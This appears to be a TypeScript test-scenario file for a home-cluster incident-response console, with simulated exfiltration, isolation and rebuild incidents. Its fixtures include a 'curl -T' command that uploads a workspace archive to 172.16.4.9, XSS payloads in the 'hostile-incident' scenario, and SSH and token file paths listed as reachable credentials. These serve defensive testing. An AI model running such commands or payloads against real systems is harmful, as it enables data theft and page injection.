import { aRotation, CODE, NEW_KEY } from '#core/incidents/runbook/testing/fake-rebuilding.ts';
import type { ReachableCredential } from '#shared/domain/incident/credentials.ts';
import type { HuntNode } from '#shared/domain/incident/hunt.ts';
import type { TimelineEntry } from '#shared/domain/incident/timeline.ts';
import type { WorkspaceChange } from '#shared/domain/incident/workspace.ts';
import type { IncidentDouble } from '../incident/incident-double.ts';
import type { IncidentScenario } from '../incident/incident-scenario.ts';
import type { Scenario } from '../scenario.ts';
import { house } from './house.ts';
import { knocking } from './knocking.ts';

const SEEN = 'Sends a file to the internet: 172.16.4.9. Seen 214 times.';

const change = (
  path: string,
  importance: WorkspaceChange['importance'],
  deeds: WorkspaceChange['deeds'],
  forged = false,
): WorkspaceChange => ({ path, deeds, importance, before: null, now: null, forged, why: '' });

const credential = (
  digit: string,
  title: string,
  name: string,
  place: string,
  revoke: string,
  revokeAt: string | null,
): ReachableCredential => ({
  id: digit.repeat(24),
  kind: 'git',
  title,
  name,
  place,
  reach: digit === 'c' ? 'probably' : 'readable',
  revoke,
  revokeAt,
});

const hunted = (name: string, state: HuntNode['state'], more: Partial<HuntNode> = {}): HuntNode => ({
  node: name,
  name,
  state,
  hits: [],
  more: 0,
  why: [],
  lookedAt: 1_204,
  tookMs: 400,
  ...more,
});

function finds(now: number): NonNullable<IncidentScenario['finds']> {
  const entry = (
    minutes: number,
    source: TimelineEntry['source'],
    text: string,
    weight: TimelineEntry['weight'] = 'notable',
  ): TimelineEntry => ({
    id: `${source}:${minutes}`,
    at: new Date(now - minutes * 60_000).toISOString(),
    source,
    node: 'naru',
    nodeName: 'naru',
    text,
    detail: '',
    weight,
  });
  return {
    entries: [
      entry(6, 'event', 'curl -T /home/mycoswarm/workspace/notes.tar http://172.16.4.9/in', 'grave'),
      entry(9, 'file', '/home/mycoswarm/.config/mycoswarm/plugins/notes/__init__.py was changed', 'grave'),
      entry(11, 'login', 'mycoswarm logged in from 10.0.0.31 by key'),
      entry(14, 'event', 'Task 4a1f accepted from boa', 'quiet'),
    ],
    changes: [
      change('/home/mycoswarm/.config/mycoswarm/plugins/notes/__init__.py', 'plugin', ['changed'], true),
      change('/etc/cron.d/notes', 'cron', ['created']),
      change('/home/mycoswarm/.ssh/authorized_keys', 'key', ['changed', 'mode']),
      change('/home/mycoswarm/workspace/notes.tar', 'other', ['created']),
    ],
    found: [
      hunted('boa', 'not-found'),
      hunted('miu', 'found', {
        hits: [{ seen: 'event', what: '10.0.0.12:48122 → 172.16.4.9:80', detail: 'python3', at: null }],
      }),
      hunted('naru', 'could-not', { why: ['naru is shut off and answers this console only.'] }),
      hunted('pi', 'could-not', { why: ['pi did not answer within 5 seconds.'] }),
      hunted('uncho', 'partly', { why: ['The logs of uncho go back to yesterday only.'] }),
    ],
    reachable: [
      credential(
        'a',
        'Token of GitHub',
        'github.com',
        '/home/mycoswarm/.config/gh/hosts.yml',
        'Delete the token, then make a new one.',
        'https://github.com/settings/tokens',
      ),
      credential(
        'b',
        'Key for logging in',
        'id_ed25519',
        '/home/mycoswarm/.ssh/id_ed25519',
        'Take its line out of authorized_keys on boa and miu.',
        null,
      ),
      credential(
        'c',
        'Key of Hugging Face',
        'HF_TOKEN',
        'environment of mycoswarm.service',
        'Revoke it, then make a new one.',
        'https://huggingface.co/settings/tokens',
      ),
    ],
  };
}

const draft = (now: number, minutes: number) => {
  const since = new Date(now - minutes * 60_000).toISOString();
  return {
    kind: 'exfiltration' as const,
    node: 'naru',
    name: 'naru',
    seen: SEEN,
    since,
    origin: {
      kind: 'alert' as const,
      alert: 'alert-1',
      rule: 'Sends a file to the internet',
      count: 214,
      lastAt: since,
    },
  };
};

function scenario(name: string, before: (double: IncidentDouble, now: number) => Promise<void>): Scenario {
  const base = house();
  const now = Date.parse(base.now) + 30_000;
  return {
    ...base,
    name,
    incidents: { before: (double) => before(double, now), finds: finds(now), peers: ['miu', 'boa', 'uncho'] },
  };
}

/** Three past ones, and none open. */
export const pastIncidents = () =>
  scenario('past-incidents', async (double) => {
    for (const [days, name, closing] of [
      [40, 'boa', 'A false alarm: the backup had been started by hand.'],
      [12, 'miu', 'The plugin was removed and its version pinned; nothing had left.'],
    ] as const)
      await double.ago(days * 1_440, async () => {
        const id = await double.open({ kind: 'poisoned-dependency', node: name, name });
        await double.move(id, { kind: 'close', words: closing, rest: 'not needed' });
      });
  });

/** The evening of the pictures: naru was told, does not answer, and its peers drop it. */
export const containedByPeers = () =>
  scenario('contained-by-peers', async (double, now) => {
    const opened = draft(now, 9);
    let id = '';
    await double.ago(5, async () => {
      id = await double.open(opened);
    });
    await double.ago(4, () =>
      double.move(id, { kind: 'did', step: 'confirm', words: 'It is not our address.' }),
    );
    double.isolating.next = 'contained-by-peers';
    await double.ago(3, () => double.order(id, 'isolate'));
  });

/** naru is shut off and confirmed; the evidence is kept. */
export const shutOff = () =>
  scenario('shut-off', async (double, now) => {
    let id = '';
    await double.ago(12, async () => {
      id = await double.open(draft(now, 15));
    });
    await double.ago(11, () =>
      double.move(id, { kind: 'did', step: 'confirm', words: 'It is not our address.' }),
    );
    await double.ago(10, () => double.order(id, 'isolate'));
    await double.ago(8, () => double.order(id, 'preserve'));
  });

/** naru is shut off and nobody confirmed it yet: its own timer runs. */
export const unconfirmedCut = () =>
  scenario('unconfirmed-cut', async (double, now) => {
    let id = '';
    await double.ago(2, async () => {
      id = await double.open(draft(now, 3));
    });
    await double.ago(1, () =>
      double.move(id, { kind: 'did', step: 'confirm', words: 'It is not our address.' }),
    );
    double.isolating.next = 'cut';
    await double.order(id, 'isolate');
    double.isolating.next = 'kept';
  });

/** A node that was shut off by its peers and will never answer again. */
export const deadNode = () =>
  scenario('dead-node', async (double, now) => {
    let id = '';
    await double.ago(120, async () => {
      id = await double.open({ ...draft(now, 125), kind: 'stolen-secret' });
    });
    double.isolating.next = 'contained-by-peers';
    await double.ago(110, () => double.order(id, 'isolate'));
    double.isolating.dead = true;
  });

/** A fresh one: nothing was done yet. */
export const freshIncident = () =>
  scenario('fresh-incident', async (double, now) => {
    await double.ago(1, () => double.open(draft(now, 4)));
  });

/** Left three days ago, with a second one that was opened today. */
export const resumedIncidents = () =>
  scenario('resumed-incidents', async (double, now) => {
    let id = '';
    await double.ago(4_400, async () => {
      id = await double.open(draft(now, 4_410));
    });
    await double.ago(4_390, () =>
      double.move(id, { kind: 'did', step: 'confirm', words: 'It is not our address.' }),
    );
    await double.ago(4_380, () => double.order(id, 'isolate'));
    await double.ago(30, () =>
      double.open({
        kind: 'stolen-secret',
        node: null,
        name: 'the key of the Wi-Fi printer',
        seen: 'It stands in a commit.',
      }),
    );
  });

/** Alerts of the evening, from which one can be started; none is open. */
export const alertsAndNoIncident = (): Scenario => ({ ...knocking(), name: 'alerts-and-no-incident' });

/** A node and an alert that try to write the page. */
export const hostileIncident = () =>
  scenario('hostile-incident', async (double) => {
    await double.open({
      kind: 'rogue-node',
      node: null,
      name: `<img src=x onerror=alert(1)>\u202e${'x'.repeat(120)}`,
      seen: `<script>alert(1)</script> ${'a-very-long-word-without-any-end'.repeat(20)}`,
    });
  });

/** naru is shut off, its evidence is kept, and everything up to setting it up anew is settled. */
async function untilRebuild(double: IncidentDouble, now: number): Promise<string> {
  let id = '';
  await double.ago(240, async () => {
    id = await double.open(draft(now, 245));
  });
  const did = (step: string, words: string) => double.move(id, { kind: 'did', step, words });
  await double.ago(238, () => did('confirm', 'It is not our address.'));
  await double.ago(236, () => double.order(id, 'isolate'));
  await double.ago(230, () => double.order(id, 'preserve'));
  await double.ago(200, async () => {
    await did('timeline', 'The plugin notes was replaced on Sunday and sent the workspace out.');
    for (const step of ['hunt', 'workspace'])
      await double.move(id, { kind: 'skip', step, words: 'One node only.' });
  });
  const at = new Date(now - 190 * 60_000).toISOString();
  double.rotations.runs = [aRotation({ startedAt: at, names: ['miu', 'boa', 'uncho'] })];
  await double.runbook.recover();
  await double.ago(180, async () => {
    await did('credentials', 'All three were ended.');
    await did('tell', 'Everybody at home knows.');
  });
  return id;
}

/** The next thing is to set naru up anew. */
export const toBeRebuilt = () =>
  scenario('to-be-rebuilt', async (double, now) => {
    await untilRebuild(double, now);
  });

/** naru was set up anew yesterday and known again by its code; the gate is not passed yet. */
export const beforeTheGate = () =>
  scenario('before-the-gate', async (double, now) => {
    const id = await untilRebuild(double, now);
    await double.ago(60, async () => {
      const kit = { kind: 'kit-made', sha256: 'c'.repeat(64), hostName: 'naru', account: 'ines' } as const;
      await double.move(id, kit);
      await double.rebuilding.meet('naru', CODE, 'ines');
      await double.move(id, { kind: 'host-key', fingerprint: NEW_KEY });
    });
    double.rebuilding.pass(new Date(now - 30 * 60_000).toISOString());
    double.rebuilding.is.secret = null;
    double.rebuilding.is.baselineAt = null;
    double.rebuilding.is.findings = { ...double.rebuilding.is.findings, 'outbound-firewall': 'fix' };
  });

/** Everything is closed; two things were to change, one of them late. */
export const toFollowUp = () =>
  scenario('to-follow-up', async (double, now) => {
    await double.ago(40 * 1_440, async () => {
      const id = await double.open(draft(now, 40 * 1_440 + 9));
      const add = { kind: 'follow-up', owner: 'Ines', check: 'pinned-dependencies' } as const;
      await double.move(id, { ...add, words: 'Pin every package on every node', due: '2026-11-01' });
      await double.move(id, {
        ...add,
        check: null,
        owner: '',
        due: null,
        words:
          'Tell everybody who brings a device that it is announced in this house before it is plugged in',
      });
      await double.move(id, { kind: 'close', words: 'The plugin was removed.', rest: 'One node only.' });
    });
  });
